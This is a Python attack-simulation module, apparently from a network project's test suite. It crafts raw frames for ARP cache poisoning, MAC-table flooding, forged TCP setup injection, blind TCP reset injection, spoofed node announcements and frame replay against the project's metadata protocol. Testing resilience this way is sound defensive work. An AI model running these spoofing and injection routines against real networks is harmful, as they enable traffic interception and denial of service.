"""The program of an attacker on a host, with frames that it writes itself.

python -m evidence.attacks.frames poison INTERFACE VICTIM_IP VICTIM_MAC POSED_IP
python -m evidence.attacks.frames stations INTERFACE COUNT TO_MAC
python -m evidence.attacks.frames set-ups INTERFACE COUNT TO_MAC OWN_IP TO_IP
python -m evidence.attacks.frames resets INTERFACE COUNT TO_MAC POSED_IP TO_IP FROM_PORT
python -m evidence.attacks.frames announcements INTERFACE COUNT POSED_NAME POSED_IP
python -m evidence.attacks.frames record INTERFACE
python -m evidence.attacks.frames repeated INTERFACE COUNT FRAME [FRAME ...]
"""

import argparse
import secrets
import select
import signal
import socket
import struct
import time
from collections.abc import Callable, Iterable
from ipaddress import IPv4Address
from itertools import cycle, islice
from types import FrameType

from scapy.layers.inet import IP, TCP
from scapy.layers.l2 import ARP, Ether

from qmn.timeouts import ATTACKER_TIMEOUT_S, LIE_PERIOD_S
from wire.features import EVERYTHING, NodeFeatures
from wire.lldp import ETHER_TYPE, announcement
from wire.metadata.header import METADATA_PORT
from wire.metadata.setup import Setup
from wire.metadata.vocabulary import Service

FRAMES_A_SECOND = 500
FIRST_PORT = 20_000
TTL_S = 120  # that an announcement holds
LOCAL = 0x88B5  # EtherType of IEEE 802 for experiments
ETHERNET = struct.Struct("!6s6sH")
ADDRESSES = struct.Struct("!4s4s")
ADDRESSES_AT = 26  # in a frame with IPv4
PROTOCOL_AT, ICMP = 23, 1
TYPE_AT, ECHO_REQUEST = 34, 8  # of ICMP, where IPv4 has no options (RFC 792)


def opened(interface: str) -> socket.socket:
    channel = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(0x0003))
    channel.bind((interface, 0))
    return channel


def own_mac(channel: socket.socket) -> bytes:
    address: bytes = channel.getsockname()[4]
    return address


class Ended(Exception):
    """The parent ended the program."""


def end(_number: int, _frame: FrameType | None) -> None:
    raise Ended


def poison(interface: str, victim: str, victim_mac: str, posed: str) -> int:
    """Tell a victim that an address is here, until SIGTERM; return how many pings came for it."""
    channel, caught, announced = opened(interface), 0, False
    mac = own_mac(channel)
    lie = bytes(
        Ether(src=mac, dst=victim_mac)
        / ARP(op="is-at", hwsrc=mac, psrc=posed, hwdst=victim_mac, pdst=victim)
    )
    signal.signal(signal.SIGTERM, end)
    next_s = time.monotonic()
    try:
        while True:
            if time.monotonic() >= next_s:
                channel.send(lie)
                if not announced:
                    print("sent", flush=True)
                announced, next_s = True, next_s + LIE_PERIOD_S
            if select.select([channel], [], [], max(0.0, next_s - time.monotonic()))[0]:
                caught += is_ping(channel.recv(65_536), mac, victim, posed)
    except Ended:
        while select.select([channel], [], [], 0.0)[0]:  # what has come before that
            caught += is_ping(channel.recv(65_536), mac, victim, posed)
        return caught


def is_ping(frame: bytes, mac: bytes, victim: str, posed: str) -> bool:
    """Whether a frame is a ping for this hardware address, from one IPv4 address to the other."""
    if len(frame) <= TYPE_AT:
        return False
    to, _source, kind = ETHERNET.unpack_from(frame)
    expected = ADDRESSES.pack(IPv4Address(victim).packed, IPv4Address(posed).packed)
    addresses = frame[ADDRESSES_AT : ADDRESSES_AT + ADDRESSES.size]
    echo = frame[PROTOCOL_AT], frame[TYPE_AT]
    return (to, kind, addresses, echo) == (mac, 0x0800, expected, (ICMP, ECHO_REQUEST))


def stations(interface: str, count: int, to_mac: str) -> int:
    frames = (
        bytes(Ether(src=station(number), dst=to_mac, type=LOCAL) / bytes(46))
        for number in range(count)
    )
    return sent(interface, frames)


def station(number: int) -> bytes:
    """Return a hardware address that nobody has: locally administered (IEEE 802), by number."""
    return bytes([2]) + number.to_bytes(5, "big")


def set_ups(interface: str, count: int, to_mac: str, source: str, to: str) -> int:
    """Send `count` set-ups, each as if it were the first of a connection that stands."""
    channel = opened(interface)
    frames = (
        bytes(
            Ether(src=own_mac(channel), dst=to_mac)
            / IP(src=source, dst=to)
            / TCP(
                sport=FIRST_PORT + number, dport=METADATA_PORT, flags="PA", seq=1, ack=1, window=502
            )
            / Setup(number + 1, Service["TELEPORT"], 1, source, 100, 1, 1_000_000, port=9).encode()
        )
        for number in range(count)
    )
    return sent(interface, frames)


def resets(interface: str, count: int, to_mac: str, posed: str, to: str, port: str) -> int:
    """Send `count` RSTs of a connection, each at a place that is guessed."""
    mac = own_mac(opened(interface))
    frames = (
        bytes(
            Ether(src=mac, dst=to_mac)
            / IP(src=posed, dst=to)
            / TCP(
                sport=int(port),
                dport=METADATA_PORT,
                flags="RA",
                seq=secrets.randbits(32),
                ack=secrets.randbits(32),
            )
        )
        for _ in range(count)
    )
    return sent(interface, frames)


def announcements(interface: str, count: int, name: str, address: str) -> int:
    mac, node_features = own_mac(opened(interface)), NodeFeatures(EVERYTHING, 8)
    frames = (
        announcement(name, f"{name}-x{number}", address, mac, TTL_S, node_features)
        for number in range(count)
    )
    return sent(interface, frames)


def record(interface: str) -> int:
    channel, deadline = opened(interface), time.monotonic() + ATTACKER_TIMEOUT_S
    while (left_s := deadline - time.monotonic()) > 0:
        if select.select([channel], [], [], left_s)[0]:
            frame, place = channel.recvfrom(65_536)
            leaves = place[2] == socket.PACKET_OUTGOING
            if leaves and frame[12:14] == ETHER_TYPE.to_bytes(2, "big"):
                print(f"frame={frame.hex()}", flush=True)
                return 1
    return 0


def repeated(interface: str, count: int, *frames: str) -> int:
    return sent(interface, islice(cycle(map(bytes.fromhex, frames)), count))


def sent(interface: str, frames: Iterable[bytes]) -> int:
    """Send frames at a pace that queues of today bear; return how many."""
    channel, number = opened(interface), 0
    began = time.monotonic()
    for number, frame in enumerate(frames, 1):
        channel.send(frame)
        time.sleep(max(0.0, began + number / FRAMES_A_SECOND - time.monotonic()))
    return number


ONCE: dict[str, Callable[..., int]] = {"poison": poison, "record": record}
COUNTED: dict[str, Callable[..., int]] = {
    "stations": stations,
    "set-ups": set_ups,
    "resets": resets,
    "announcements": announcements,
    "repeated": repeated,
}


def main() -> None:
    parser = argparse.ArgumentParser(prog="python -m evidence.attacks.frames", description=__doc__)
    parser.add_argument("what", choices=[*ONCE, *COUNTED])
    parser.add_argument("words", nargs="+")
    arguments = parser.parse_args()
    interface, *numbers = arguments.words
    if arguments.what in ONCE:
        count = ONCE[arguments.what](interface, *numbers)
    else:
        count = COUNTED[arguments.what](interface, int(numbers[0]), *numbers[1:])
    print(f"count={count}", flush=True)


if __name__ == "__main__":
    main()
